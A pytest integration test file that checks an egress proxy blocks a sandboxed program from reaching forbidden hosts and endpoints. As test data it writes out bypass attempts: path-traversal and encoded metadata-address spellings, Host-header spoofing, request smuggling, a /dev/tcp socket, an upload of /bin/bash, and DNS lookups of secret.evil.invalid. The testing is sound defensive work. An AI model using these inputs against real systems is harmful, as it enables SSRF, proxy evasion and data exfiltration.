"""What reaches the outside, whatever a program in the computer tries."""

import pytest

from tests.integration.chat.person import Thread
from tests.integration.egress.outside import Outside

MARKET = "api.kraken.com"
VENUE = "api.hyperliquid.xyz"
CURL = "curl -s --path-as-is -o /dev/null -w '%{http_code} ' "


async def codes(thread: Thread, *requests: str) -> list[str]:
    result = await thread.exec("; ".join(CURL + request for request in requests))
    return list(result["output"].split())


async def test_an_allowed_read_leaves_once_and_clean(thread: Thread, outside: Outside) -> None:
    headers = "-H 'X-HTTP-Method-Override: POST' -H 'X-Original-URL: /x' -H 'Cookie: a=b' -H 'X-Mine: 1'"
    before = len(outside.at(MARKET))
    assert await codes(thread, f"{headers} 'https://API.Kraken.com./0/public/%54ime?once'") == ["200"]
    (seen,) = outside.at(MARKET)[before:]
    assert (seen.method, seen.url, seen.body) == ("GET", f"https://{MARKET}/0/public/Time?once", b"")
    assert seen.headers["x-mine"] == "1"
    assert not {"cookie", "x-http-method-override", "x-original-url", "x-forwarded-for"} & seen.headers.keys()


async def test_a_query_to_the_venue_leaves_as_it_was_judged(thread: Thread, outside: Outside) -> None:
    before = len(outside.at(VENUE))
    queries = (
        '{ "type" : "meta" }',
        '{"type":"order"}',
        '{"type":"meta","type":"order"}',
        '{"action":{"type":"order"}}',
    )
    found = await codes(thread, *(f"-d '{query}' https://{VENUE}/info" for query in queries))
    assert found == ["200", "403", "403", "403"]
    assert [seen.body for seen in outside.at(VENUE)[before:]] == [b'{"type":"meta"}']


async def test_a_body_that_no_rule_takes_stays_here(thread: Thread, outside: Outside) -> None:
    before = len(outside.seen)
    found = await codes(
        thread,
        f"-X GET -d secret https://{MARKET}/0/public/Time",
        f"-X GET -H 'Transfer-Encoding: chunked' -d secret https://{MARKET}/0/public/Time",
        f"-d secret https://{MARKET}/0/public/Time",
        f"-T /bin/bash https://{VENUE}/info",
    )
    assert found == ["403"] * 4
    assert outside.seen[before:] == []


async def test_a_query_that_nests_deeply_ends_nobodys_interpreter(thread: Thread, outside: Outside) -> None:
    before = len(outside.at(VENUE))
    deep = "printf '[%.0s' $(seq 60000)"
    result = await thread.exec(f"{deep} | {CURL} -d @- https://{VENUE}/info")
    assert result["output"] == "403 "
    assert outside.at(VENUE)[before:] == []
    assert await codes(thread, f"https://{MARKET}/0/public/Time") == ["200"]


PATHS = (
    "/info%2f..%2fexchange", "/info/..%5cexchange", "/%65xchange", "/info/%252e%252e/exchange", "//exchange",
    "/exchange/", "/exchange;x=1", "/EXCHANGE", "/info%00/../exchange", "/info/../exchange",
    "/info/%2e%2e/exchange", "/./exchange", "/exchange",
)  # fmt: skip


async def test_no_spelling_of_a_path_reaches_the_venues_write_endpoint(
    thread: Thread, outside: Outside
) -> None:
    before = len(outside.seen)
    found = await codes(thread, *(f"-d '{{}}' 'https://{VENUE}{path}'" for path in PATHS))
    # A path that could be read as another host does not reach the rules.
    assert found == ["400" if path.startswith("//") else "403" for path in PATHS]
    assert len(found) == len(PATHS)
    assert outside.seen[before:] == []


HOSTS = (
    "api.hyperliquid.xyz.", "API.HyperLiquid.XYZ", "api.hyperliquid.xyz..", "sub.api.hyperliquid.xyz",
    "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]", "0", "7f000001.nip.io", "metadata", "berth.invalid", "x.berth.invalid", "localhost",
)  # fmt: skip


async def test_no_spelling_of_a_closed_host_is_reached(thread: Thread, outside: Outside) -> None:
    before = len(outside.seen)
    for scheme in ("http", "https"):
        found = await codes(
            thread, *(f"-g -k -m 10 -d '{{}}' '{scheme}://{host}/exchange'" for host in HOSTS)
        )
        assert "200" not in found
        assert len(found) == len(HOSTS)
    assert outside.seen[before:] == []


@pytest.mark.parametrize(
    "to", [f"https://{VENUE}/exchange", "http://169.254.169.254/", "http://plain.invalid/"]
)
async def test_a_redirect_is_handed_back_and_judged_where_it_leads(
    thread: Thread, outside: Outside, to: str
) -> None:
    before = len(outside.seen)
    url = f"https://{MARKET}/0/public/Time"
    for code in ("302", "307", "308"):
        found = await thread.exec(
            f"curl -s -L -G --data-urlencode 'answer=redirect {code} {to}' -o /dev/null"
            f" -w '%{{http_code}} %{{num_redirects}}' {url}"
        )
        assert found["output"] == "403 1"
    assert {seen.url.partition("?")[0] for seen in outside.seen[before:]} == {url}


async def test_every_hop_of_a_chain_is_a_request_of_its_own(thread: Thread, outside: Outside) -> None:
    before = len(outside.seen)
    result = await thread.exec(
        f"curl -s -L --max-redirs 20 -o /dev/null 'https://{MARKET}/0/public/Time?answer=loop'; echo $?"
    )
    assert result["output"] == "47\n"
    assert len(outside.seen) - before == 21
    assert [line["count"] for line in result["egress"]] == [21]


@pytest.mark.parametrize(
    "request_line",
    [
        f"-k -H 'Host: {VENUE}' https://{MARKET}/exchange",
        f"-k -H 'Host: {MARKET}' -d '{{}}' https://{VENUE}/exchange",
        f"-k --connect-to {VENUE}:443:{MARKET}:443 -d '{{}}' https://{VENUE}/exchange",
        f"-k --connect-to {MARKET}:443:{VENUE}:443 https://{MARKET}/0/public/Time",
        f"-H 'Host: {MARKET}' http://{VENUE}/exchange",
        f"--proxytunnel -H 'Host: {MARKET}' http://{VENUE}/exchange",
    ],
)
async def test_one_host_cannot_stand_before_another(
    thread: Thread, outside: Outside, request_line: str
) -> None:
    before = len(outside.seen)
    assert (await codes(thread, request_line))[0] in {"400", "403", "000"}
    assert outside.seen[before:] == []


@pytest.mark.parametrize(
    "url", [f"https://{VENUE}/ws", f"https://{VENUE}/info", f"https://{MARKET}/0/public/Time"]
)
@pytest.mark.parametrize("protocol", ["websocket", "h2c", "x"])
async def test_no_protocol_is_changed(thread: Thread, outside: Outside, url: str, protocol: str) -> None:
    before = len(outside.seen)
    upgrade = f"--http1.1 -H 'Connection: Upgrade' -H 'Upgrade: {protocol}' -H 'Sec-WebSocket-Version: 13'"
    key = "-H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=='"
    assert await codes(thread, f"{upgrade} {key} {url}") == ["403"]
    assert outside.seen[before:] == []


async def test_past_the_ports_of_the_web_tools_that_know_no_proxy_reach_nothing(
    thread: Thread, outside: Outside
) -> None:
    before = len(outside.seen)
    result = await thread.exec(
        f"for c in 'curl -s -m 3 --noproxy * https://{MARKET}:8443/0/public/Time'"
        " 'timeout 3 bash -c \"exec 3<>/dev/tcp/1.1.1.1/22\"'"
        ' \'python3 -c "import socket; socket.create_connection((\\"2606:4700::1\\", 853), 3)"\''
        " 'curl -s -k https://1.1.1.1/ --noproxy *'; do eval \"$c\" >/dev/null 2>&1; echo $?; done"
    )
    codes_seen = result["output"].split()
    assert len(codes_seen) == 4
    assert "0" not in codes_seen
    assert outside.seen[before:] == []


DIRECT = "env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY "
TIME = f"https://{MARKET}/0/public/Time"


@pytest.mark.parametrize(
    "program",
    [
        f"curl -s {TIME}",
        f"wget -qO- {TIME}",
        f"/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen(\"{TIME}\").read().decode())'",
        f"node -e 'fetch(\"{TIME}\").then(r => r.text()).then(console.log)'",
    ],
    ids=["curl", "wget", "python", "node"],
)
async def test_a_tool_that_knows_no_proxy_leaves_like_any_other(
    thread: Thread, outside: Outside, program: str
) -> None:
    before = len(outside.seen)
    result = await thread.exec(DIRECT + program)
    assert result["output"].strip() == "ok"
    (seen,) = outside.seen[before:]
    assert (seen.method, seen.url) == ("GET", TIME)
    assert [(line["host"], line["allowed"], line["count"]) for line in result["egress"]] == [
        (MARKET, True, 1)
    ]


async def test_a_tool_that_knows_no_proxy_is_refused_and_counted(thread: Thread, outside: Outside) -> None:
    before = len(outside.seen)
    urls = (f"https://{VENUE}/exchange", "http://1.1.1.1/", "https://no.invalid/", "http://berth.invalid/")
    found = await thread.exec("; ".join(f"{CURL} --noproxy '*' -d '{{}}' {url}" for url in urls))
    assert found["output"].split() == ["403"] * 4
    assert {
        (line["host"], line["allowed"], line["reason"].partition(":")[0]) for line in found["egress"]
    } == {
        (VENUE, False, "venue"),
        ("1.1.1.1", False, "address"),
        ("no.invalid", False, "lookup"),
        ("no.invalid", False, "default"),
        ("berth.invalid", False, "lookup"),
        ("berth.invalid", False, "berth"),
    }
    assert outside.seen[before:] == []


UNCLEAR = (
    (f"-k -H 'Host: {VENUE}' {TIME}", MARKET, "mismatch"),
    (f"-k --connect-to {MARKET}:443:no.invalid:443 {TIME}", "no.invalid", "mismatch"),
    (f"-H 'Host: {MARKET}' http://no.invalid/", "no.invalid", "mismatch"),
    (f"--noproxy '*' -k -H 'Host: {VENUE}' {TIME}", MARKET, "mismatch"),
    ("--noproxy '*' -k https://1.1.1.1/", "1.1.1.1", "nameless"),
    (f"-H 'Transfer-Encoding: chunked' -H 'Content-Length: 3' -d x http://{MARKET}/", MARKET, "unreadable"),
    (f"--proxy-header 'Host: {VENUE}:443' {TIME}", MARKET, "mismatch"),
    (f"--noproxy '*' -H 'Content-Length: 0' -H 'Content-Length: 0' {TIME}", MARKET, "unreadable"),
    (f"-H 'X-Berth-Refused: forged' {TIME}", MARKET, "unreadable"),
    (f"-H 'X-Berth-Refused;' {TIME}", MARKET, "unreadable"),
    (f"--path-as-is https://no.invalid//{MARKET}/0/public/Time", "no.invalid", "unreadable"),
    (f"--path-as-is --noproxy '*' 'https://no.invalid/\\{MARKET}/0/public/Time'", "no.invalid", "unreadable"),
    ("--noproxy '*' http://no.invalid:443/", "unreadable.invalid", "unreadable"),
)


@pytest.mark.parametrize(("request_line", "host", "rule"), UNCLEAR)
async def test_what_is_refused_on_the_way_is_on_the_receipt_too(
    thread: Thread, outside: Outside, request_line: str, host: str, rule: str
) -> None:
    before = len(outside.seen)
    result = await thread.exec(CURL + request_line)
    assert result["output"].strip() in {"400", "403", "000"}
    found = [(line["host"], line["allowed"], line["reason"].partition(":")[0]) for line in result["egress"]]
    assert [line for line in found if line[2] != "lookup"] == [(host, False, rule)]
    assert outside.seen[before:] == []


async def test_a_look_up_asks_nobody(thread: Thread, outside: Outside) -> None:
    before = len(outside.seen)
    result = await thread.exec(
        "getent ahostsv4 secret.evil.invalid | head -1; curl -s https://secret.evil.invalid/"
    )
    assert result["output"].startswith("198.18.0.1")
    assert [(line["host"], line["method"], line["allowed"]) for line in result["egress"]] == [
        ("secret.evil.invalid", "DNS", False),
        ("secret.evil.invalid", "GET", False),
    ]
    assert outside.seen[before:] == []


@pytest.mark.parametrize(
    "how", ["getent hosts", "python3 -c 'import socket, sys; socket.gethostbyname(sys.argv[1])'"]
)
async def test_a_name_that_is_only_looked_up_stands_on_the_receipt(
    thread: Thread, outside: Outside, how: str
) -> None:
    before = len(outside.seen)
    result = await thread.exec(f"{how} secret.evil.invalid; {how} {MARKET}; {how} localhost")
    assert result["exit_code"] == 0
    assert [(line["host"], line["method"], line["allowed"]) for line in result["egress"]] == [
        ("secret.evil.invalid", "DNS", False)
    ]
    assert outside.seen[before:] == []


async def test_a_flood_of_names_is_bounded_and_leaves_the_way_out_open(thread: Thread) -> None:
    flood = "import socket; [socket.gethostbyname(f'{n}.evil.invalid') for n in range(3000)]"
    result = await thread.exec(f'timeout 50 python3 -c "{flood}"; {CURL} {TIME}')
    assert result["output"].split()[-1] in {"200", "429"}
    assert len(result["egress"]) <= 53


async def test_what_leads_around_the_proxy_is_taken_off_an_answer(thread: Thread) -> None:
    result = await thread.exec(f"curl -s -D - -o /dev/null 'https://{MARKET}/0/public/Time?answer=alt-svc'")
    assert "200" in result["output"].splitlines()[0] or "200" in result["output"]
    assert "alt-svc" not in result["output"].lower()


async def test_a_change_of_protocol_that_nobody_asked_for_ends_there(thread: Thread) -> None:
    assert await codes(thread, f"'https://{MARKET}/0/public/Time?answer=switch'") == ["502"]


async def test_the_receipt_shows_what_happened(thread: Thread) -> None:
    result = await thread.exec(
        f"{CURL} https://{MARKET}/0/public/Time; {CURL} https://no.invalid/; {CURL} http://1.1.1.1/"
    )
    found = {(r["host"], r["allowed"], r["reason"].partition(":")[0]) for r in result["egress"]}
    assert found == {
        (MARKET, True, "market"),
        ("no.invalid", False, "default"),
        ("1.1.1.1", False, "address"),
    }


async def test_what_headers_and_addresses_carry_out_is_counted(thread: Thread) -> None:
    told = "a" * 3_000
    for request in (
        f"-H 'X-Told: {told}' https://{MARKET}/0/public/Time",
        f"https://{MARKET}/0/public/Time?{told}",
    ):
        (line,) = (await thread.exec(f"{CURL} {request}"))["egress"]
        assert 3_000 < line["sent"] < 3_300
